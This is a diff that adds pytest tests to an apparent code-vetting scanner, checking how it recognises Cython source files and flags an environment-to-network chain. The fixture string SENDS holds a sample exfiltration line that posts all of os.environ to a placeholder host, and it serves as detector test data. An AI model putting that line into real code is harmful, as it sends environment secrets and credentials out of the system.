@@ -3,8 +3,12 @@
 import pytest
 from source_lab import subject
 
+from beartrap.model.coverage import Gap
+from beartrap.model.question import Question
 from beartrap.vet.behaviour import Behaviour
 from beartrap.vet.kinds import Kind
+from beartrap.vet.sniff import kind_of
+from beartrap.vet.source.spoken import language_of
 from beartrap.vet.source_others import FILES
 
 
@@ -35,3 +39,19 @@ def test_what_compiled_source_shows(path: str, kind: Kind, text: str, wanted: st
 )
 def test_what_compiled_source_may_do(path: str, kind: Kind, text: str) -> None:
     assert not [one for one in found(path, text, kind).values() if one.severity > 2]
+
+
+CYTHON = "#!python\nimport os, requests\nfrom ..metrics cimport (\n    distance,\n)\n"
+SENDS = "cpdef int f(int x):\n    requests.post('https://c.invalid', json=dict(os.environ))\n    return x\n"
+
+
+@pytest.mark.parametrize("path", ["a.pxi", "a.pyx.tp", "a.pyx.in"])
+def test_cython_is_cython_whatever_its_first_line_says(path: str) -> None:
+    assert kind_of(path, CYTHON.encode()) is Kind.C and language_of(Kind.C, path) is None
+    assert found(path, CYTHON + SENDS, Kind.C)["chain.environment-to-network"].place.row == 7
+    seen = [
+        one for each in FILES for one in each.look(subject(path, CYTHON + "cdef:\n    int a\n" + SENDS, kind=Kind.C))
+    ]
+    (gap,) = (one for one in seen if isinstance(one, Gap))
+    assert Question.NEXT not in gap.questions
+    assert kind_of("a.py.in", CYTHON.encode()) is Kind.PYTHON and language_of(Kind.C, "a.h.in") == "c"
